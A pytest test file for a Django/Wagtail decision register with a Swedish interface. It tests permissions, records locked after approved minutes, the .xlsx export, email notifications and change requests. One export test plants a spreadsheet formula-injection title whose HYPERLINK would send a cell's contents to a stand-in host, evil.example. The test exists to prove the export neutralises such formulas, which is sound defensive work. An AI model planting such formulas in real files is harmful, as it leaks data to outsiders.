"""The decision register in the admin: who may record, closed records after approved
minutes, the .xlsx export, and the public register page."""

import datetime
import io
import re

from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from wagtail.models import ModelLogEntry

import openpyxl
import pytest

from governance.budget.models import BudgetVersion
from governance.decisions.models import (
    ActivityChange,
    AgendaItem,
    ChangeRequest,
    Decision,
    LockedRecordError,
    Meeting,
)
from governance.register.models import Membership, WorkArea
from tests.governance.decisions.factories import DecisionRegisterPageFactory
from tests.governance.decisions.fixtures import approve_minutes, at

pytestmark = pytest.mark.django_db


def decision_form_data(meeting, **changes):
    data = {
        "meeting": meeting.pk,
        "title": "Budget för 2013",
        "text": "Styrgruppen fastställer budgeten för 2013.",
        "kind": "budget",
        "change_request": "",
        "change_request_outcome": "",
        "revokes": "",
    }
    data.update(changes)
    return data


def test_steering_group_member_records_a_numbered_decision(client, steering_member, meeting):
    client.force_login(steering_member)
    response = client.post(reverse("decision:add"), decision_form_data(meeting))
    assert response.status_code == 302
    decision = Decision.objects.get()
    assert decision.number == "2013:01"
    assert ModelLogEntry.objects.for_instance(decision).filter(action="wagtail.create").exists()
    listing = client.get(reverse("decision:index")).content.decode()
    assert "2013:01" in listing and "Budget för 2013" in listing


def test_project_group_member_cannot_record_a_decision(client, project_group_member, meeting):
    client.force_login(project_group_member)
    listing = client.get(reverse("decision:index"))
    assert listing.status_code == 200
    assert reverse("decision:add") not in listing.content.decode()
    assert client.get(reverse("decision:add")).status_code == 403
    response = client.post(reverse("decision:add"), decision_form_data(meeting))
    assert response.status_code == 403
    assert not Decision.objects.exists()


def test_guest_writer_sees_no_decisions(client, guest_writer, make_decision):
    make_decision("Hemligt för gästskribenter")
    client.force_login(guest_writer)
    assert client.get(reverse("decision:index")).status_code == 403
    assert client.get(reverse("meeting:index")).status_code == 403


def test_after_approved_minutes_the_admin_offers_no_edit_and_refuses_it(
    client, steering_member, meeting, make_decision
):
    decision = make_decision("Budget för 2013")
    client.force_login(steering_member)
    edit_url = reverse("decision:edit", args=[decision.pk])
    assert edit_url in client.get(reverse("decision:index")).content.decode()
    approve_minutes(meeting)

    listing = client.get(reverse("decision:index")).content.decode()
    assert "2013:01" in listing and edit_url not in listing
    inspect = client.get(reverse("decision:inspect", args=[decision.pk]))
    assert inspect.status_code == 200 and edit_url not in inspect.content.decode()
    assert client.get(edit_url).status_code == 403
    response = client.post(edit_url, decision_form_data(meeting, title="Ändrat i efterhand"))
    assert response.status_code == 403
    assert client.post(reverse("decision:delete", args=[decision.pk])).status_code == 403
    decision.refresh_from_db()
    assert decision.title == "Budget för 2013"
    meeting_edit = reverse("meeting:edit", args=[meeting.pk])
    assert client.get(meeting_edit).status_code == 403


def test_granting_a_change_request_in_the_admin_makes_its_budget_current(
    client, steering_member, meeting, project, make_change_request
):
    BudgetVersion.objects.create(
        project=project,
        number=1,
        label="Ursprunglig",
        state=BudgetVersion.State.APPROVED,
        approved_on=datetime.date(2012, 10, 15),
    )
    revision = BudgetVersion.objects.create(project=project, number=2, label="Reviderad")
    request = make_change_request(budget_version=revision)
    client.force_login(steering_member)
    response = client.post(
        reverse("decision:add"),
        decision_form_data(meeting, change_request=request.pk, change_request_outcome="bifall"),
    )
    assert response.status_code == 302
    assert BudgetVersion.current_for(project) == revision
    request.refresh_from_db()
    assert request.state == ChangeRequest.State.IMPLEMENTED


def test_a_failing_grant_shows_the_error_and_records_nothing(
    client, steering_member, meeting, project, make_change_request
):
    BudgetVersion.objects.create(
        project=project,
        number=3,
        label="Nyare",
        state=BudgetVersion.State.APPROVED,
        approved_on=datetime.date(2013, 1, 15),
    )
    older = BudgetVersion.objects.create(project=project, number=2, label="Äldre utkast")
    request = make_change_request(budget_version=older)
    client.force_login(steering_member)
    response = client.post(
        reverse("decision:add"),
        decision_form_data(meeting, change_request=request.pk, change_request_outcome="bifall"),
    )
    assert response.status_code == 200
    assert "högre nummer" in response.content.decode()
    assert not Decision.objects.exists()


def make_many_decisions(meeting, count, work_area):
    for n in range(count):
        decision = Decision.objects.create(meeting=meeting, title=f"Beslut {n}", text="Text.")
        decision.work_areas.add(work_area)


def queries_for(client, url, **params):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
        assert response.status_code == 200
        if response.streaming:
            b"".join(response.streaming_content)
    return len(queries)


def test_decision_list_and_export_queries_do_not_grow_with_the_register(
    client, steering_member, meeting, work_area
):
    client.force_login(steering_member)
    make_many_decisions(meeting, 3, work_area)
    few_list = queries_for(client, reverse("decision:index"))
    few_export = queries_for(client, reverse("decision:index"), export="xlsx")
    make_many_decisions(meeting, 30, work_area)
    assert queries_for(client, reverse("decision:index")) == few_list
    assert queries_for(client, reverse("decision:index"), export="xlsx") == few_export


def test_export_is_a_real_xlsx_with_the_filtered_register(
    client, steering_member, make_meeting, make_decision, project
):
    area_b = WorkArea.objects.create(project=project, code="B", title="Synliga styrkor")
    make_decision("Budget 2013", kind=Decision.Kind.BUDGET, meeting=make_meeting(at(2013, 3, 14)))
    later = make_decision("Tidplan 2014", meeting=make_meeting(at(2014, 2, 3)))
    later.work_areas.add(area_b)
    client.force_login(steering_member)
    response = client.get(reverse("decision:index"), {"export": "xlsx", "year": "2014"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Beslutsnummer"
    assert len(rows) == 2
    assert rows[1][0] == "2014:01" and "Tidplan 2014" in rows[1] and "B" in rows[1]


def test_the_register_leaves_only_as_xlsx_where_no_title_runs_as_a_formula(
    client, steering_member, make_decision
):
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
    make_decision(title)
    client.force_login(steering_member)
    listing = client.get(reverse("decision:index")).content.decode()
    assert "export=xlsx" in listing and "export=csv" not in listing
    response = client.get(reverse("decision:index"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cell = next(cell for cell in sheet[2] if cell.value == title)
    assert cell.data_type == "s"
    csv = client.get(reverse("decision:index"), {"export": "csv"})
    assert csv["Content-Type"].startswith("text/html")


def test_decision_list_filters_by_kind_and_work_area(
    client, steering_member, make_decision, work_area
):
    budget = make_decision("Budgetbeslut", kind=Decision.Kind.BUDGET)
    make_decision("Övrigt beslut")
    budget.work_areas.add(work_area)
    client.force_login(steering_member)
    html = client.get(reverse("decision:index"), {"kind": "budget"}).content.decode()
    assert "Budgetbeslut" in html and "Övrigt beslut" not in html
    html = client.get(reverse("decision:index"), {"work_areas": work_area.pk}).content.decode()
    assert "Budgetbeslut" in html and "Övrigt beslut" not in html


def meeting_form_data(project, **changes):
    data = {
        "project": project.pk,
        "body": "styrgrupp",
        "starts_at": "2013-03-14 13:00",
        "ends_at": "2013-03-14 15:00",
        "place": "Stadshuset, Umeå",
        "link": "",
        "agenda_published": "on",
        "minutes": "",
        "signed_minutes": "",
        "registry_number": "",
    }
    for prefix in ("attendees", "agenda_items", "attachments"):
        data.update(
            {
                f"{prefix}-TOTAL_FORMS": "0",
                f"{prefix}-INITIAL_FORMS": "0",
                f"{prefix}-MIN_NUM_FORMS": "0",
                f"{prefix}-MAX_NUM_FORMS": "1000",
            }
        )
    data.update(changes)
    return data


def test_publishing_an_agenda_emails_the_steering_group(
    client, project_leader, meeting, project, person, django_capture_on_commit_callbacks
):
    Membership.objects.create(project=project, person=person, body=Membership.Body.STEERING_GROUP)
    client.force_login(project_leader)
    # The form has no "published" box: sending one along publishes nothing.
    edit_url = reverse("meeting:edit", args=[meeting.pk])
    assert 'name="agenda_published"' not in client.get(edit_url).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(edit_url, meeting_form_data(project))
    assert response.status_code == 302, response.content.decode()[:3000]
    meeting.refresh_from_db()
    assert not meeting.agenda_published and not mail.outbox
    publish_url = reverse("meeting:publish_agenda", args=[meeting.pk])
    assert f'href="{publish_url}"' in client.get(reverse("meeting:index")).content.decode()
    assert f'href="{publish_url}"' in client.get(edit_url).content.decode()
    confirm = client.get(publish_url).content.decode()
    assert "mejl med en länk till dagordningen (1 ledamot med adress)" in confirm
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(publish_url)
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.agenda_published
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == [person.email]
    assert f"/admin/styrning/motesdokument/{meeting.pk}/dagordning/" in mail.outbox[0].body
    # Published: the button is gone and the page refuses to publish twice.
    assert publish_url not in client.get(edit_url).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(publish_url)
    assert len(mail.outbox) == 1


@pytest.fixture
def register_page(project):
    return DecisionRegisterPageFactory(project=project)


def test_public_register_lists_public_decisions_and_links_revocations(
    client, register_page, make_meeting, meeting, make_decision
):
    public = make_decision("Budget för 2013", text="Budgeten fastställs till 2 400 000 kr.")
    secret = make_decision("Förhandling om lokaler", is_confidential=True)
    approve_minutes(meeting)
    later_meeting = make_meeting(at(2013, 6, 10))
    revoking = make_decision("Ny budgetram", meeting=later_meeting, revokes=public)
    unapproved = make_decision("Ännu inte justerat", meeting=make_meeting(at(2013, 9, 1)))
    approve_minutes(later_meeting)

    html = client.get(register_page.url).content.decode()
    assert "Budget för 2013" in html and "Budgeten fastställs till 2 400 000 kr." in html
    assert public.number in html and revoking.number in html
    assert secret.title not in html and secret.number not in html
    assert unapproved.title not in html
    assert (
        f'Upphävt genom <a href="?ar=2013#{revoking.anchor}">beslut {revoking.number}</a>' in html
    )
    assert f'Upphäver <a href="?ar=2013#{public.anchor}">beslut {public.number}</a>' in html


def test_public_register_queries_do_not_grow_with_the_decisions(
    client, register_page, meeting, work_area
):
    make_many_decisions(meeting, 3, work_area)
    Meeting.objects.filter(pk=meeting.pk).update(state=Meeting.State.MINUTES_APPROVED)
    # The first two requests fill the site's caches (the site and its home page, then the
    # fragments they key); from the third on a request asks only what the page shows.
    for _warm_up in range(2):
        client.get(register_page.url)
    few = queries_for(client, register_page.url)
    Meeting.objects.filter(pk=meeting.pk).update(state=Meeting.State.PLANNED)
    make_many_decisions(meeting, 30, work_area)
    Meeting.objects.filter(pk=meeting.pk).update(state=Meeting.State.MINUTES_APPROVED)
    for _warm_up in range(2):  # the new decisions emptied the project's page caches
        client.get(register_page.url)
    assert queries_for(client, register_page.url) == few


def test_meeting_list_links_the_agenda_and_minutes_pdfs(client, project_group_member, meeting):
    client.force_login(project_group_member)
    html = client.get(reverse("meeting:index")).content.decode()
    assert reverse("meeting_documents:agenda_pdf", args=[meeting.pk]) in html
    assert reverse("meeting_documents:minutes_pdf", args=[meeting.pk]) in html
    assert reverse("meeting:edit", args=[meeting.pk]) not in html


def change_request_form_data(project, **changes):
    data = {
        "project": project.pk,
        "title": "Förlängd tidplan",
        "what_changes": "A.1 slutar senare.",
        "reason": "Arbetsgivarna vill vänta till hösten.",
        "budget_consequences": "",
        "timeline_consequences": "",
        "budget_version": "",
        "activity_changes-TOTAL_FORMS": "0",
        "activity_changes-INITIAL_FORMS": "0",
        "activity_changes-MIN_NUM_FORMS": "0",
        "activity_changes-MAX_NUM_FORMS": "1000",
        "attachments-TOTAL_FORMS": "0",
        "attachments-INITIAL_FORMS": "0",
        "attachments-MIN_NUM_FORMS": "0",
        "attachments-MAX_NUM_FORMS": "1000",
    }
    data.update(changes)
    return data


def test_project_leader_submits_a_change_request_and_the_steering_group_is_emailed(
    client, project_leader, project, person, django_capture_on_commit_callbacks
):
    Membership.objects.create(project=project, person=person, body=Membership.Body.STEERING_GROUP)
    client.force_login(project_leader)
    form = client.get(reverse("changerequest:add")).content.decode()
    assert 'name="action-submit"' in form and 'name="state"' not in form
    # The form cannot decide a request: a state sent along is not the form's to set.
    response = client.post(
        reverse("changerequest:add"), change_request_form_data(project, state="bifallet")
    )
    draft = ChangeRequest.objects.get()
    assert draft.state == ChangeRequest.State.DRAFT and not draft.submitted_at and not mail.outbox
    # Saving a draft keeps the leader on it.
    assert response.url == reverse("changerequest:edit", args=[draft.pk])
    draft.delete()
    # "Save and submit" saves the draft and opens the confirmation page.
    response = client.post(
        reverse("changerequest:add"),
        change_request_form_data(project, **{"action-submit": "1"}),
    )
    request = ChangeRequest.objects.get()
    submit_url = reverse("changerequest:submit", args=[request.pk])
    assert response.status_code == 302 and response.url == submit_url
    assert request.state == ChangeRequest.State.DRAFT and not mail.outbox
    confirm = client.get(submit_url).content.decode()
    assert "Förslaget väntar på styrgruppens beslut" in confirm
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(submit_url)
    assert response.status_code == 302
    request.refresh_from_db()
    assert request.state == ChangeRequest.State.SUBMITTED and request.submitted_at
    assert request.prepared_by == project_leader
    assert [message.to for message in mail.outbox] == [[person.email]]


def test_inspecting_a_revoked_decision_links_both_ways(
    client, project_group_member, make_meeting, make_decision
):
    mistaken = make_decision("Fel budgetram")
    correction = make_decision(
        "Rätt budgetram", meeting=make_meeting(at(2013, 6, 10)), revokes=mistaken
    )
    client.force_login(project_group_member)
    old = client.get(reverse("decision:inspect", args=[mistaken.pk])).content.decode()
    assert "Upphävt genom beslut" in old
    assert f'href="{reverse("decision:inspect", args=[correction.pk])}"' in old
    new = client.get(reverse("decision:inspect", args=[correction.pk])).content.decode()
    assert f'href="{reverse("decision:inspect", args=[mistaken.pk])}"' in new


def test_minutes_are_approved_with_the_button_by_the_steering_group_only(
    client, project_leader, steering_member, meeting, project, make_decision
):
    decision = make_decision("Budget 2013")
    edit_url = reverse("meeting:edit", args=[meeting.pk])
    held_url = reverse("meeting:mark_held", args=[meeting.pk])
    approve_url = reverse("meeting:approve_minutes", args=[meeting.pk])
    # The form has no state: a state sent along changes nothing.
    client.force_login(project_leader)
    form = client.get(edit_url).content.decode()
    assert 'name="state"' not in form
    assert f'href="{held_url}"' in form and f'href="{approve_url}"' not in form
    response = client.post(edit_url, meeting_form_data(project, state="justerat"))
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.state == Meeting.State.PLANNED
    # The project leaders mark the meeting held, but may not approve its minutes.
    assert "Mötet markeras som genomfört" in client.get(held_url).content.decode()
    assert client.post(held_url).status_code == 302
    meeting.refresh_from_db()
    assert meeting.state == Meeting.State.HELD
    assert client.get(approve_url).status_code == 403
    assert client.post(approve_url).status_code == 403
    meeting.refresh_from_db()
    assert meeting.state == Meeting.State.HELD

    client.force_login(steering_member)
    listing = client.get(reverse("meeting:index")).content.decode()
    inspect = client.get(reverse("meeting:inspect", args=[meeting.pk])).content.decode()
    assert f'href="{approve_url}"' in listing and f'href="{approve_url}"' in inspect
    confirm = client.get(approve_url).content.decode()
    assert "Vad som kommer att hända" in confirm and decision.number in confirm
    response = client.post(approve_url)
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.state == Meeting.State.MINUTES_APPROVED
    assert ModelLogEntry.objects.filter(action="lagesbild.meeting.approve_minutes").exists()
    # Approved: no button is offered again, and the confirmation page turns back.
    inspect = client.get(reverse("meeting:inspect", args=[meeting.pk])).content.decode()
    assert approve_url not in inspect and held_url not in inspect
    assert client.post(approve_url).status_code == 302
    assert client.get(edit_url).status_code == 403


def test_a_meeting_that_has_not_started_is_neither_held_nor_approved(
    client, steering_member, make_meeting
):
    future = make_meeting(timezone.now() + datetime.timedelta(days=3))
    client.force_login(steering_member)
    inspect = client.get(reverse("meeting:inspect", args=[future.pk])).content.decode()
    assert "genomfort/" not in inspect and "justera/" not in inspect
    response = client.post(reverse("meeting:approve_minutes", args=[future.pk]), follow=True)
    assert "Mötet har inte börjat än." in response.content.decode()
    future.refresh_from_db()
    assert future.state == Meeting.State.PLANNED


def test_the_end_is_two_hours_after_the_start_when_left_empty_and_never_before_it(
    client, project_leader, meeting, project
):
    client.force_login(project_leader)
    edit_url = reverse("meeting:edit", args=[meeting.pk])
    form = client.get(edit_url).content.decode()
    assert "governance/decisions/meeting_form.js" in form
    response = client.post(edit_url, meeting_form_data(project, ends_at=""))
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.ends_at - meeting.starts_at == datetime.timedelta(hours=2)
    response = client.post(edit_url, meeting_form_data(project, ends_at="2013-03-14 12:00"))
    assert response.status_code == 200
    assert "Mötet måste sluta efter att det börjar." in response.content.decode()
    response = client.post(edit_url, meeting_form_data(project, ends_at="2013-03-14 16:30"))
    meeting.refresh_from_db()
    assert timezone.localtime(meeting.ends_at).strftime("%H:%M") == "16:30"


def test_the_steering_group_decides_a_change_request_with_the_button(
    client, steering_member, project_leader, project, meeting, make_activity
):
    activity = make_activity("A.1")
    request = ChangeRequest.objects.create(
        project=project,
        title="Förlängd tidplan",
        what_changes="A.1 slutar senare.",
        reason="Arbetsgivarna vill vänta till hösten.",
        state=ChangeRequest.State.SUBMITTED,
    )
    ActivityChange.objects.create(
        change_request=request,
        kind=ActivityChange.Kind.RESCHEDULE,
        activity=activity,
        planned_end=datetime.date(2013, 9, 30),
    )
    decide_url = reverse("changerequest:decide", args=[request.pk])
    inspect_url = reverse("changerequest:inspect", args=[request.pk])
    # The project leaders prepare requests; only the steering group decides them.
    client.force_login(project_leader)
    assert decide_url not in client.get(inspect_url).content.decode()
    assert client.get(decide_url).status_code == 403
    client.force_login(steering_member)
    assert f'href="{decide_url}"' in client.get(inspect_url).content.decode()
    confirm = client.get(decide_url).content.decode()
    assert "Aktivitetsplanen ändras" in confirm and "A.1" in confirm
    response = client.post(
        decide_url,
        {
            "outcome": "bifall",
            "meeting": meeting.pk,
            "title": "Förlängd tidplan för A.1",
            "text": "Styrgruppen bifaller förslaget.",
            "kind": "tidplan",
        },
    )
    assert response.status_code == 302 and response.url == inspect_url
    request.refresh_from_db()
    activity.refresh_from_db()
    assert request.state == ChangeRequest.State.IMPLEMENTED
    assert activity.planned_end == datetime.date(2013, 9, 30)
    assert request.decision.title == "Förlängd tidplan för A.1"
    # Decided: no button, and the page refuses.
    assert decide_url not in client.get(inspect_url).content.decode()
    client.post(decide_url, {"outcome": "avslag"})
    assert Decision.objects.count() == 1


def test_the_decision_form_offers_only_the_items_of_its_meeting(
    client, steering_member, meeting, make_meeting, make_decision
):
    """The items are numbered as in the minutes; a recorded decision and a form opened from
    a meeting offer only that meeting's items, and an item of another meeting is refused."""
    opening = AgendaItem.objects.create(meeting=meeting, title="Mötets öppnande", sort_order=0)
    budget = AgendaItem.objects.create(meeting=meeting, title="Budgetläget", sort_order=1)
    other = make_meeting(at(2013, 6, 3))
    elsewhere = AgendaItem.objects.create(meeting=other, title="Sommarens praktik", sort_order=0)
    client.force_login(steering_member)

    def offered(html):
        select = html[
            html.index('name="agenda_item"') : html.index(
                "</select>", html.index('name="agenda_item"')
            )
        ]
        return re.findall(r"<option value=\"(\d*)\"[^>]*>([^<]*)</option>", select)

    form = client.get(reverse("decision:add"), {"meeting": meeting.pk}).content.decode()
    assert offered(form) == [
        ("", "Ingen punkt (övriga beslut)"),
        (str(opening.pk), "§ 1 Mötets öppnande"),
        (str(budget.pk), "§ 2 Budgetläget"),
    ]
    assert "Punkt på dagordningen" in form

    refused = client.post(
        reverse("decision:add"), decision_form_data(meeting, agenda_item=elsewhere.pk)
    )
    assert refused.status_code == 200 and not Decision.objects.exists()
    response = client.post(
        reverse("decision:add"), decision_form_data(meeting, agenda_item=budget.pk)
    )
    assert response.status_code == 302
    decision = Decision.objects.get()
    assert decision.agenda_item == budget

    edit = client.get(reverse("decision:edit", args=[decision.pk])).content.decode()
    assert [label for _pk, label in offered(edit)] == [
        "Ingen punkt (övriga beslut)",
        "§ 1 Mötets öppnande",
        "§ 2 Budgetläget",
    ]
    assert f'value="{budget.pk}" selected' in edit
    # Without a meeting chosen, each item names its meeting for the form's script.
    blank = client.get(reverse("decision:add")).content.decode()
    assert f'data-meeting="{other.pk}"' in blank and "Sommarens praktik" in blank


def test_a_decision_in_approved_minutes_keeps_its_agenda_item(meeting, make_decision):
    first = AgendaItem.objects.create(meeting=meeting, title="Budgetläget", sort_order=0)
    second = AgendaItem.objects.create(meeting=meeting, title="Övrigt", sort_order=1)
    decision = make_decision("Budget för 2013", agenda_item=first)
    approve_minutes(meeting)
    decision.agenda_item = second
    with pytest.raises(LockedRecordError):
        decision.save()
    decision.refresh_from_db()
    assert decision.agenda_item == first


def test_the_meeting_list_offers_to_record_a_decision_at_an_open_meeting(
    client, steering_member, project_group_member, meeting
):
    record = f"{reverse('decision:add')}?meeting={meeting.pk}"
    client.force_login(steering_member)
    assert record in client.get(reverse("meeting:index")).content.decode()
    client.force_login(project_group_member)
    assert record not in client.get(reverse("meeting:index")).content.decode()
